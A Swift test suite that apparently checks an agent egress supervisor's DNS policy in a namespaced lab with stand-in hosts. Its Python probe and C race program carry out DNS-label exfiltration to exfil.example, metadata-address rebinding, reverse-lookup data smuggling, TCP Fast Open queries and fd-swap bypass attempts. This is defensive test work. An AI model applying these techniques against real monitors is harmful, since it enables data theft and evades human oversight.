import Foundation
import Glibc
import Testing

/// Two network namespaces joined by a veth pair: "client", where the agent runs, and "world",
/// where a stub authoritative DNS server (UDP and TCP, on 10.99.0.1:53) and an HTTP server (port
/// 80 of every address) stand in for registry.example, evil.example and a metadata endpoint.
/// `ip netns exec` gives the client its own /etc/resolv.conf (/etc/netns/NAME/).
final class NetworkLab {
    let client: String
    let world: String
    private let harness: Harness
    private var servers: [Process] = []

    static let zone = """
        import socket, struct, threading, sys, http.server, socketserver
        ZONE = {"registry.example": "10.99.0.10", "evil.example": "10.99.0.20", "rebind.example": "169.254.169.254"}
        def resolve(name):
            if name in ZONE: return ZONE[name]
            if name.endswith(".exfil.example"): return "10.99.0.30"
            return None
        LOG = open(sys.argv[2], "a", buffering=1)
        def answer(q):
            qid = struct.unpack(">H", q[:2])[0]
            i = 12; labels = []
            while q[i]:
                labels.append(q[i+1:i+1+q[i]].decode("latin-1").lower()); i += q[i] + 1
            LOG.write(".".join(labels) + "\\n")
            qtype = struct.unpack(">H", q[i+1:i+3])[0]
            question = q[12:i+5]
            address = resolve(".".join(labels))
            records = b""
            if address and qtype == 1:
                records = b"\\xc0\\x0c" + struct.pack(">HHIH", 1, 1, 30, 4) + socket.inet_aton(address)
            flags = 0x8180 | (0 if address else 3)
            return struct.pack(">HHHHHH", qid, flags, 1, 1 if records else 0, 0, 0) + question + records
        def udp():
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("10.99.0.1", 53))
            while True:
                q, peer = s.recvfrom(4096)
                try: s.sendto(answer(q), peer)
                except Exception: pass
        def tcp_client(c):
            with c:
                while True:
                    head = c.recv(2)
                    if len(head) < 2: return
                    n = struct.unpack(">H", head)[0]; q = b""
                    while len(q) < n:
                        more = c.recv(n - len(q))
                        if not more: return
                        q += more
                    a = answer(q); c.sendall(struct.pack(">H", len(a)) + a)
        def tcp():
            s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("10.99.0.1", 53)); s.listen(16)
            while True:
                c, _ = s.accept(); threading.Thread(target=tcp_client, args=(c,), daemon=True).start()
        class Hello(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                body = ("hello from %s\\n" % self.connection.getsockname()[0]).encode()
                self.send_response(200); self.send_header("Content-Length", str(len(body))); self.end_headers(); self.wfile.write(body)
            def log_message(self, *args): pass
        threading.Thread(target=udp, daemon=True).start()
        threading.Thread(target=tcp, daemon=True).start()
        http.server.ThreadingHTTPServer.allow_reuse_address = True
        server = http.server.ThreadingHTTPServer(("0.0.0.0", 80), Hello)
        open(sys.argv[1], "w").write("ready")
        server.serve_forever()
        """

    /// Every name the stub resolver was asked, one per line: what reached the "internet".
    var queryLog: String { harness.path("zone.queries") }

    /// The names the stub resolver saw since the last call.
    func takeQueries() -> [String] {
        let text = (try? String(contentsOfFile: queryLog, encoding: .utf8)) ?? ""
        try? "".write(toFile: queryLog, atomically: false, encoding: .utf8)
        return text.split(separator: "\n").map(String.init)
    }

    init(_ harness: Harness) throws {
        self.harness = harness
        let id = String(UInt32.random(in: 0...0xffff_ff), radix: 16)
        client = "agc\(id)"
        world = "agw\(id)"
        let steps: [[String]] = [
            ["ip", "netns", "add", client], ["ip", "netns", "add", world],
            ["ip", "link", "add", "vc\(id)", "type", "veth", "peer", "name", "vw\(id)"],
            ["ip", "link", "set", "vc\(id)", "netns", client], ["ip", "link", "set", "vw\(id)", "netns", world],
            ["ip", "-n", client, "addr", "add", "10.99.0.2/24", "dev", "vc\(id)"],
            ["ip", "-n", client, "link", "set", "vc\(id)", "up"], ["ip", "-n", client, "link", "set", "lo", "up"],
            ["ip", "-n", client, "route", "add", "default", "via", "10.99.0.1"],
            ["ip", "-n", world, "addr", "add", "10.99.0.1/24", "dev", "vw\(id)"],
            ["ip", "-n", world, "addr", "add", "10.99.0.10/24", "dev", "vw\(id)"],
            ["ip", "-n", world, "addr", "add", "10.99.0.20/24", "dev", "vw\(id)"],
            ["ip", "-n", world, "addr", "add", "10.99.0.30/24", "dev", "vw\(id)"],
            ["ip", "-n", world, "addr", "add", "169.254.169.254/16", "dev", "vw\(id)"],
            ["ip", "-n", world, "link", "set", "vw\(id)", "up"], ["ip", "-n", world, "link", "set", "lo", "up"],
        ]
        for step in steps {
            let result = harness.run(step)
            guard result.status == 0 else {
                cleanUp()
                throw HarnessError(message: "\(step.joined(separator: " ")): \(result.stderr)")
            }
        }
        try FileManager.default.createDirectory(atPath: "/etc/netns/\(client)", withIntermediateDirectories: true)
        // Patient: the suite runs beside others on a loaded machine.
        try "nameserver 10.99.0.1\noptions timeout:15 attempts:3\n"
            .write(toFile: "/etc/netns/\(client)/resolv.conf", atomically: false, encoding: .utf8)
        try "127.0.0.1 localhost\n::1 localhost\n10.99.0.10 pinned.example\n"
            .write(toFile: "/etc/netns/\(client)/hosts", atomically: false, encoding: .utf8)
        try harness.write("zone.py", Self.zone)
        let ready = harness.path("zone.ready")
        let server = Process()
        server.executableURL = URL(fileURLWithPath: "/usr/sbin/ip")
        if !FileManager.default.isExecutableFile(atPath: "/usr/sbin/ip") { server.executableURL = URL(fileURLWithPath: "/sbin/ip") }
        server.arguments = ["netns", "exec", world, "/usr/bin/python3", harness.path("zone.py"), ready, queryLog]
        server.standardOutput = FileHandle.nullDevice
        server.standardError = FileHandle.nullDevice
        try server.run()
        servers.append(server)
        let deadline = Date().addingTimeInterval(20)
        while !FileManager.default.fileExists(atPath: ready) && Date() < deadline { usleep(20_000) }
        guard FileManager.default.fileExists(atPath: ready) else {
            cleanUp()
            throw HarnessError(message: "the lab's DNS and HTTP servers did not start")
        }
    }

    func cleanUp() {
        for server in servers where server.isRunning {
            // SIGKILL: the test runner's children start with most signals blocked.
            kill(server.processIdentifier, SIGKILL)
            server.waitUntilExit()
        }
        servers = []
        _ = harness.run(["ip", "netns", "del", client])
        _ = harness.run(["ip", "netns", "del", world])
        try? FileManager.default.removeItem(atPath: "/etc/netns/\(client)")
    }

    deinit { cleanUp() }

    /// `command` in the client namespace, bare.
    func bare(_ command: [String], timeout: Double = 60) -> Harness.Result {
        harness.run(["ip", "netns", "exec", client] + command, timeout: timeout)
    }

    /// `command` in the client namespace, under the supervisor.
    func supervised(_ command: [String], policy: String, timeout: Double = 60) -> Harness.Result {
        harness.run(["ip", "netns", "exec", client, Harness.supervisor, "--policy", policy, "--db", harness.db, "--"] + command,
                    timeout: timeout)
    }
}

/// A Python probe the tests run in the lab: resolve, connect, fetch, query DNS directly.
let dnsProbe = """
    import socket, struct, sys, urllib.request, random, string
    def query(name, server, tcp=False, qtype=1):
        q = struct.pack(">HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0)
        q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\\0" + struct.pack(">HH", qtype, 1)
        if tcp:
            s = socket.create_connection((server, 53), timeout=15)
            s.sendall(struct.pack(">H", len(q)) + q)
            n = struct.unpack(">H", s.recv(2))[0]; data = b""
            while len(data) < n: data += s.recv(n - len(data))
            peer = s.getpeername()
        else:
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(15)
            s.sendto(q, (server, 53)); data, peer = s.recvfrom(4096)
        return peer[0], data[3] & 15, struct.unpack(">H", data[6:8])[0]
    what = sys.argv[1]
    try:
        if what == "resolve":
            print("resolved", socket.gethostbyname(sys.argv[2]))
        elif what == "fetch":
            print("fetched", urllib.request.urlopen("http://%s/" % sys.argv[2], timeout=5).read().decode().strip())
        elif what == "connect":
            s = socket.create_connection((sys.argv[2], int(sys.argv[3])), timeout=5); print("connected", s.getpeername()[0])
        elif what == "query":
            print("answered from %s rcode %d answers %d" % query(sys.argv[2], sys.argv[3], tcp=len(sys.argv) > 4))
        elif what == "ptr":
            print("answered from %s rcode %d answers %d" % query(sys.argv[2], sys.argv[3], qtype=12))
        elif what == "tfo":
            q = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + b"".join(bytes([len(p)]) + p.encode() for p in sys.argv[2].split(".")) + b"\\0" + struct.pack(">HH", 1, 1)
            s = socket.socket()
            s.sendto(struct.pack(">H", len(q)) + q, socket.MSG_FASTOPEN, (sys.argv[3], 53))
            s.settimeout(5)
            n = struct.unpack(">H", s.recv(2))[0]; data = s.recv(n)
            print("answered rcode %d answers %d" % (data[3] & 15, struct.unpack(">H", data[6:8])[0]))
        elif what == "exfil":
            answered = refused = 0
            for i in range(int(sys.argv[2])):
                label = "".join(random.choice(string.ascii_lowercase + string.digits) for _ in range(48))
                _, rcode, _ = query(label + ".exfil.example", "10.99.0.1")
                if rcode == 0: answered += 1
                else: refused += 1
            print("answered %d refused %d" % (answered, refused))
    except Exception as e:
        print("failed", type(e).__name__, e)
    """

@Suite(.serialized) struct DNSEgressTests {
    /// Egress by name: only registry.example, rebind.example and subdomains of exfil.example
    /// may be reached, and no address of 169.254/16 whatever name it comes from.
    static let policy = """
        version: 2
        default: {exec: allow, fs_read: allow, fs_write: allow, net_egress: deny}
        dns:
          unique_subdomains_per_parent: 20
        rules:
          - id: metadata
            match: {action: net_egress, cidr: ["169.254.0.0/16"]}
            decision: deny
          - id: registry
            match: {action: net_egress, target_glob: "registry.example"}
            decision: allow
          - id: rebind
            match: {action: net_egress, target_glob: "rebind.example"}
            decision: allow
          - id: exfil-parent
            match: {action: net_egress, target_glob: ".exfil.example"}
            decision: allow
          - id: pinned
            match: {action: net_egress, target_glob: "pinned.example"}
            decision: allow
        """

    /// A lab with the probe written and a policy: what most cases here start from.
    static func probeLab(policy yaml: String = Self.policy, _ name: String = #function) throws
        -> (Harness, NetworkLab, policy: String, probe: [String]) {
        let h = try Harness(name)
        try h.write("probe.py", dnsProbe)
        let lab = try NetworkLab(h)
        let policy = try h.policy(yaml)
        return (h, lab, policy, ["/usr/bin/python3", h.path("probe.py")])
    }

    @Test func namesDecideConnectsAndQueries() throws {
        try TestUser.requireRoot("network namespaces and veth pairs are made with ip netns")
        let (h, lab, policy, probe) = try Self.probeLab()
        defer { lab.cleanUp() }

        // Bare, every one of these goes through: the denials below are the supervisor's.
        #expect(lab.bare(probe + ["resolve", "evil.example"]).stdout.contains("resolved 10.99.0.20"))
        #expect(lab.bare(probe + ["fetch", "evil.example"]).stdout.contains("fetched hello from 10.99.0.20"))
        #expect(lab.bare(probe + ["connect", "10.99.0.20", "80"]).stdout.contains("connected"))
        #expect(lab.bare(probe + ["fetch", "rebind.example"]).stdout.contains("fetched hello from 169.254.169.254"))
        #expect(lab.bare(probe + ["exfil", "30"]).stdout.contains("answered 30 refused 0"))
        #expect(lab.bare(["curl", "-s", "--max-time", "5", "--resolve", "evil.example:80:10.99.0.20", "http://evil.example/"])
            .stdout.contains("hello from 10.99.0.20"))

        // An allowed name resolves and connects, through glibc, Python and curl.
        let getent = lab.supervised(["getent", "ahostsv4", "registry.example"], policy: policy)
        #expect(getent.status == 0 && getent.stdout.contains("10.99.0.10"), "\(getent)")
        let fetched = lab.supervised(probe + ["fetch", "registry.example"], policy: policy)
        #expect(fetched.stdout.contains("fetched hello from 10.99.0.10"), "\(fetched)")
        // A loaded machine (CI on 2 cores) can take seconds for the first resolve and connect.
        let curl = lab.supervised(["curl", "-sS", "--max-time", "20", "http://registry.example/"], policy: policy)
        #expect(curl.stdout.contains("hello from 10.99.0.10"), "\(curl)")
        // A denied name fails at DNS...
        let evil = lab.supervised(probe + ["resolve", "evil.example"], policy: policy)
        #expect(evil.stdout.contains("failed gaierror"), "\(evil)")
        // ...and its address, never resolved by the agent, meets only address rules.
        let raw = lab.supervised(probe + ["connect", "10.99.0.20", "80"], policy: policy)
        #expect(raw.stdout.contains("failed PermissionError"), "\(raw)")
        let pinned = lab.supervised(["curl", "-s", "--max-time", "5", "--resolve", "evil.example:80:10.99.0.20",
                                     "http://evil.example/"], policy: policy)
        #expect(pinned.status != 0 && !pinned.stdout.contains("hello"), "\(pinned)")
        // A name that resolves to a metadata address is judged by the address.
        let rebind = lab.supervised(probe + ["fetch", "rebind.example"], policy: policy)
        #expect(rebind.stdout.contains("failed") && !rebind.stdout.contains("hello"), "\(rebind)")
        // /etc/hosts names an address too.
        let hosts = lab.supervised(probe + ["connect", "10.99.0.10", "80"], policy: policy)
        #expect(hosts.stdout.contains("connected 10.99.0.10"), "\(hosts)")

        let egress = h.query("SELECT target, decision, reason FROM events WHERE action = 'net_egress' AND target NOT LIKE 'unix:%' AND target NOT LIKE 'family:%'")
        #expect(egress.contains { $0[0] == "registry.example:80 (10.99.0.10)" && $0[1] == "allow" })
        #expect(egress.contains { $0[0] == "10.99.0.20:80" && $0[1] == "deny" && $0[2].contains("not resolved by the agent") })
        #expect(egress.contains { $0[0] == "rebind.example:80 (169.254.169.254)" && $0[1] == "deny" })
        #expect(egress.contains { $0[0] == "pinned.example:80 (10.99.0.10)" && $0[1] == "allow" && $0[2].contains("/etc/hosts") })
        let queries = h.query("SELECT target, decision, reason FROM events WHERE action = 'dns'")
        #expect(queries.contains { $0[0] == "registry.example A" && $0[1] == "allow" && $0[2].contains("answered 10.99.0.10") })
        #expect(queries.contains { $0[0] == "evil.example A" && $0[1] == "deny" })
    }

    /// Where names are denied unless a rule allows them, a reverse lookup goes out only for an
    /// address the session resolved, /etc/hosts names, or a local one: any other well-formed
    /// reverse name carries up to 128 bits of the agent's choosing to whoever holds that reverse
    /// zone (found by review: 80 bits a query under an IPv6 /48).
    @Test func reverseLookupsCarryNoDataOut() throws {
        try TestUser.requireRoot("network namespaces and veth pairs are made with ip netns")
        let (h, lab, policy, probe) = try Self.probeLab()
        defer { lab.cleanUp() }
        let data = "0.0.0.f.e.e.b.d.a.e.d.0.0.0.0.0.0.0.0.0.0.0.0.0.8.b.d.0.1.0.0.2.ip6.arpa"
        _ = lab.takeQueries()
        #expect(lab.bare(probe + ["ptr", data, "10.99.0.1"]).stdout.contains("answered from 10.99.0.1"))
        #expect(lab.takeQueries().contains(data), "bare, the reverse name must reach the resolver")

        let refused = lab.supervised(probe + ["ptr", data, "10.99.0.1"], policy: policy)
        #expect(refused.stdout.contains("rcode 3"), "\(refused)")
        #expect(!lab.takeQueries().contains(data), "the reverse name must not leave")
        let script = "\(probe.joined(separator: " ")) resolve registry.example; \(probe.joined(separator: " ")) ptr 10.0.99.10.in-addr.arpa 10.99.0.1; "
            + "\(probe.joined(separator: " ")) ptr 1.0.0.127.in-addr.arpa 10.99.0.1"
        let resolved = lab.supervised(["sh", "-c", script], policy: policy)
        #expect(resolved.stdout.contains("resolved 10.99.0.10"), "\(resolved)")
        let queries = lab.takeQueries()
        #expect(queries.contains("10.0.99.10.in-addr.arpa") && queries.contains("1.0.0.127.in-addr.arpa"),
                "a resolved address and a local one are looked up: \(queries)\n\(resolved)")
        let events = h.query("SELECT target, decision, reason FROM events WHERE action = 'dns' AND target LIKE '%arpa PTR'")
        #expect(events.contains { $0[0] == data + " PTR" && $0[1] == "deny" && $0[2].contains("never resolved") }, "\(events)")
    }

    @Test func queriesOverTCPAndToAnyResolverAreCaptured() throws {
        try TestUser.requireRoot("network namespaces and veth pairs are made with ip netns")
        let (h, lab, policy, probe) = try Self.probeLab()
        defer { lab.cleanUp() }
        #expect(lab.bare(probe + ["query", "evil.example", "10.99.0.1", "tcp"]).stdout.contains("rcode 0 answers 1"))

        let tcp = lab.supervised(probe + ["query", "registry.example", "10.99.0.1", "tcp"], policy: policy)
        #expect(tcp.stdout.contains("answered from 10.99.0.1 rcode 0 answers 1"), "\(tcp)")
        let deniedTCP = lab.supervised(probe + ["query", "evil.example", "10.99.0.1", "tcp"], policy: policy)
        #expect(deniedTCP.stdout.contains("answered from 10.99.0.1 rcode 3"), "\(deniedTCP)")
        // A resolver the agent picks itself is answered by the forwarder, from that address.
        let elsewhere = lab.supervised(probe + ["query", "evil.example", "192.0.2.53"], policy: policy)
        #expect(elsewhere.stdout.contains("answered from 192.0.2.53 rcode 3"), "\(elsewhere)")
        // TCP Fast Open carries a query in the connect itself: refused, never sent.
        _ = lab.takeQueries()
        #expect(lab.bare(probe + ["tfo", "tfo.evil.example", "10.99.0.1"]).stdout.contains("answered rcode 3"))
        #expect(lab.takeQueries().contains("tfo.evil.example"))
        let fastOpen = lab.supervised(probe + ["tfo", "tfo.evil.example", "10.99.0.1"], policy: policy)
        #expect(fastOpen.stdout.contains("failed PermissionError"), "\(fastOpen)")
        #expect(!lab.takeQueries().contains("tfo.evil.example"))
        let queries = h.query("SELECT syscall, target, decision FROM events WHERE action = 'dns'")
        #expect(queries.contains { $0 == ["dns/tcp", "registry.example A", "allow"] })
        #expect(queries.contains { $0 == ["dns/tcp", "evil.example A", "deny"] })
        #expect(queries.contains { $0 == ["dns/udp", "evil.example A", "deny"] })
    }

    @Test func exfiltrationThroughQueryNamesIsFlaggedAndLimited() throws {
        try TestUser.requireRoot("network namespaces and veth pairs are made with ip netns")
        let (h, lab, policy, probe) = try Self.probeLab()
        defer { lab.cleanUp() }
        let exfil = lab.supervised(probe + ["exfil", "30"], policy: policy)
        #expect(exfil.stdout.contains("answered 20 refused 10"), "\(exfil)")
        let flagged = h.query("SELECT decision, reason, notable FROM events WHERE action = 'dns' AND target LIKE '%.exfil.example A'")
        #expect(flagged.count == 30)
        #expect(flagged.allSatisfy { $0[2] == "1" && $0[1].contains("flagged") })
        #expect(flagged.filter { $0[0] == "deny" }.count == 10)
    }

    /// One thread flips an fd number between a pipe and a UDP socket while another sends a
    /// query for a denied name through it: whatever the fd is when the supervisor looks, the
    /// query never reaches the real resolver.
    @Test func racingTheSwapNeverReachesTheResolver() throws {
        try TestUser.requireRoot("network namespaces and veth pairs are made with ip netns")
        let h = try Harness()
        let lab = try NetworkLab(h)
        defer { lab.cleanUp() }
        let racer = try h.compile("dns-race", Self.raceSource)
        let policy = try h.policy(Self.policy.replacingOccurrences(of: "rules:\n", with: """
            rules:
              - id: resolver
                match: {action: net_egress, target_glob: "10.99.0.1", ports: [53]}
                decision: allow

            """))
        _ = lab.takeQueries()
        // Bare, some of the calls meet the socket (a loaded machine may need a few rounds).
        var leaked = false
        for _ in 0..<5 where !leaked {
            let bare = lab.bare([racer, "3000", "10.99.0.1", "race.evil.example"])
            #expect(bare.status == 0, "\(bare)")
            leaked = lab.takeQueries().contains("race.evil.example")
        }
        #expect(leaked, "the race reaches the resolver bare")
        // A name of its own: the stub may still be working through the bare run's backlog.
        let supervised = lab.supervised([racer, "3000", "10.99.0.1", "supervised-race.evil.example"], policy: policy, timeout: 120)
        #expect(supervised.status == 0, "\(supervised)")
        #expect(!lab.takeQueries().contains("supervised-race.evil.example"))
        let refused = h.query("SELECT count(*) FROM events WHERE action = 'dns' AND target = 'supervised-race.evil.example A' AND decision = 'deny'")
        #expect((Int(refused.first?.first ?? "0") ?? 0) > 0, "the supervised race's queries reached the forwarder")
    }

    static let raceSource = """
        #include <arpa/inet.h>
        #include <fcntl.h>
        #include <pthread.h>
        #include <sched.h>
        #include <stdatomic.h>
        #include <stdlib.h>
        #include <string.h>
        #include <sys/socket.h>
        #include <unistd.h>
        static atomic_int stop;
        static int pipefd[2];
        enum { TARGET = 200 };
        static void *flip(void *unused) {
            (void)unused;
            while (!atomic_load(&stop)) {
                int s = socket(AF_INET, SOCK_DGRAM, 0);
                dup2(s, TARGET); close(s);
                sched_yield(); // the socket stays a moment, so some calls meet it
                dup2(pipefd[0], TARGET);
            }
            return 0;
        }
        int main(int argc, char **argv) {
            int n = atoi(argv[1]);
            struct sockaddr_in server = {.sin_family = AF_INET, .sin_port = htons(53)};
            inet_pton(AF_INET, argv[2], &server.sin_addr);
            unsigned char q[300] = {0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0};
            int len = 12;
            char name[256]; strncpy(name, argv[3], 255); name[255] = 0;
            for (char *label = strtok(name, "."); label; label = strtok(0, ".")) {
                q[len++] = (unsigned char)strlen(label); memcpy(q + len, label, strlen(label)); len += (int)strlen(label);
            }
            q[len++] = 0; q[len++] = 0; q[len++] = 1; q[len++] = 0; q[len++] = 1;
            pipe(pipefd);
            pthread_t thread;
            pthread_create(&thread, 0, flip, 0);
            while (fcntl(TARGET, F_GETFD) < 0) {} // the flipping has begun
            for (int i = 0; i < n; i++) {
                sendto(TARGET, q, (size_t)len, 0, (struct sockaddr *)&server, sizeof server);
                connect(TARGET, (struct sockaddr *)&server, sizeof server);
                send(TARGET, q, (size_t)len, 0);
            }
            atomic_store(&stop, 1);
            pthread_join(thread, 0);
            return 0;
        }
        """

    /// Under `ask`, a name that looks like data is refused at DNS (a query is never asked
    /// about, and it carries data out on its own); an ordinary one resolves, for its connect
    /// to be asked.
    @Test func askedNamesThatLookLikeDataAreRefused() throws {
        try TestUser.requireRoot("network namespaces and veth pairs are made with ip netns")
        let (_, lab, policy, probe) = try Self.probeLab(policy: """
            version: 2
            default: {exec: allow, fs_read: allow, fs_write: allow, net_egress: ask}
            rules: []
            """)
        defer { lab.cleanUp() }
        _ = lab.takeQueries()
        let ordinary = lab.supervised(probe + ["resolve", "evil.example"], policy: policy)
        #expect(ordinary.stdout.contains("resolved 10.99.0.20"), "\(ordinary)")
        let exfil = lab.supervised(probe + ["exfil", "5"], policy: policy)
        #expect(exfil.stdout.contains("answered 0 refused 5"), "\(exfil)")
        #expect(!lab.takeQueries().contains { $0.hasSuffix(".exfil.example") })
    }

    /// What a program sees of a DNS socket is what it sees bare: its own address after a UDP
    /// connect, EISCONN on a connected stream, the kernel's error for an unreachable network.
    @Test func dnsSocketsLookAsTheyDoBare() throws {
        let h = try Harness()
        try h.write("fidelity.py", """
            import socket, errno
            out = []
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            try:
                s.connect(("192.0.2.53", 53)); out.append("udp local " + s.getsockname()[0])
            except OSError as e: out.append("udp " + errno.errorcode[e.errno])
            listener = socket.socket(); listener.bind(("127.0.0.1", 0)); listener.listen(1)
            t = socket.socket(); t.connect(listener.getsockname())
            try: t.connect(("127.0.0.1", 53)); out.append("stream reconnect ok")
            except OSError as e: out.append("stream " + errno.errorcode[e.errno])
            u = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
            try: u.connect(("2001:db8:ffff::53", 53)); out.append("v6 ok")
            except OSError as e: out.append("v6 " + errno.errorcode[e.errno])
            print("; ".join(out))
            """)
        let command = ["/usr/bin/python3", h.path("fidelity.py")]
        let bare = h.bare(command)
        let supervised = h.supervised(command, policy: try h.policy("""
            version: 2
            default: {exec: allow, fs_read: allow, fs_write: allow, net_egress: allow}
            rules: []
            """))
        #expect(bare.status == 0 && !bare.stdout.isEmpty, "\(bare)")
        #expect(supervised.stdout == bare.stdout, "bare: \(bare.stdout) supervised: \(supervised.stdout) \(supervised.stderr)")
    }

    /// nscd's socket and systemd-resolved's varlink socket resolve names without DNS: they are
    /// refused as absent, so glibc's nsswitch goes on to DNS, which the session decides.
    @Test func resolverSocketsAreRefusedAsAbsent() throws {
        try TestUser.requireRoot("a private /run is mounted in a mount namespace of the test's own")
        let h = try Harness()
        try h.write("resolvers.py", """
            import socket, os, sys, errno
            out = []
            for path in ["/run/systemd/resolve/io.systemd.Resolve", "/run/nscd/socket", "/run/another-name"]:
                s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                try: s.connect(path); out.append("connected")
                except OSError as e: out.append(errno.errorcode[e.errno])
            print(" ".join(out))
            """)
        try h.write("serve.py", """
            import socket, os, sys, time
            listeners = []
            for path in ["/run/systemd/resolve/io.systemd.Resolve", "/run/nscd/socket"]:
                os.makedirs(os.path.dirname(path), exist_ok=True)
                s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); s.bind(path); s.listen(8); listeners.append(s)
            os.link("/run/nscd/socket", "/run/another-name")  # the same socket under another name
            open(sys.argv[1], "w").write("ready")
            time.sleep(60)
            """)
        let policy = try h.policy("""
            version: 2
            default: {exec: allow, fs_read: allow, fs_write: allow, net_egress: allow}
            rules: []
            """)
        let script = """
            mount -t tmpfs none /run || exit 3
            /usr/bin/python3 \(h.path("serve.py")) \(h.path("ready")) & server=$!
            while [ ! -e \(h.path("ready")) ]; do sleep 0.05; done
            echo "bare: $(/usr/bin/python3 \(h.path("resolvers.py")))"
            echo "supervised: $(\(Harness.supervisor) -q --policy \(policy) --db \(h.db) -- /usr/bin/python3 \(h.path("resolvers.py")))"
            kill -9 $server
            """
        let result = h.run(["unshare", "-m", "--propagation", "private", "/bin/sh", "-c", script])
        #expect(result.stdout.contains("bare: connected connected connected"), "\(result)")
        #expect(result.stdout.contains("supervised: ENOENT ENOENT ENOENT"), "\(result)")
    }

    /// The one external peer: pip's own index, read from pip's configuration now.
    @Test func pipDownloadFromTheConfiguredIndex() throws {
        let h = try Harness()
        let index = Self.pipIndexURL(h)
        guard let host = URLComponents(string: index)?.host else { try Test.cancel("pip's index URL \(index) has no host") }
        let hosts = host == "pypi.org" ? ["pypi.org", "files.pythonhosted.org"] : [host]
        let download = ["/usr/bin/python3", "-m", "pip", "download", "--isolated", "--no-deps", "--no-cache-dir",
                        "--index-url", index, "-d", h.path("wheels"), "six"]
        let bare = h.bare(download, timeout: 120)
        if bare.status != 0 { try Test.cancel("pip can't download from \(index) without the supervisor either: \(bare.stderr.suffix(300))") }
        try FileManager.default.removeItem(atPath: h.path("wheels"))

        let allowed = try h.policy("""
            version: 2
            default: {exec: allow, fs_read: allow, fs_write: allow, net_egress: deny}
            rules:
            \(hosts.map { "  - match: {action: net_egress, target_glob: \"\($0)\"}\n    decision: allow" }.joined(separator: "\n"))
            """)
        let works = h.supervised(download, policy: allowed, timeout: 180)
        #expect(works.status == 0, "\(works.stderr.suffix(2000))")
        let connects = h.query("SELECT target FROM events WHERE action = 'net_egress' AND decision = 'allow' AND target LIKE '%:443 (%'")
        #expect(connects.contains { $0[0].hasPrefix(host + ":443 (") })

        try FileManager.default.removeItem(atPath: h.path("wheels"))
        let other = try h.policy("""
            version: 2
            default: {exec: allow, fs_read: allow, fs_write: allow, net_egress: deny}
            rules:
              - match: {action: net_egress, target_glob: "registry.example"}
                decision: allow
            """)
        let fails = h.supervised(download + ["--retries", "0", "--timeout", "5"], policy: other, timeout: 180)
        #expect(fails.status != 0)
    }

    static func pipIndexURL(_ h: Harness) -> String {
        let listed = h.run(["/usr/bin/python3", "-m", "pip", "config", "list"]).stdout
        for line in listed.split(separator: "\n") where line.contains("index-url=") && !line.contains("extra-index-url") {
            let value = line.split(separator: "=", maxSplits: 1)[1]
            return value.trimmingCharacters(in: CharacterSet(charactersIn: "'\""))
        }
        return ProcessInfo.processInfo.environment["PIP_INDEX_URL"] ?? "https://pypi.org/simple"
    }
}
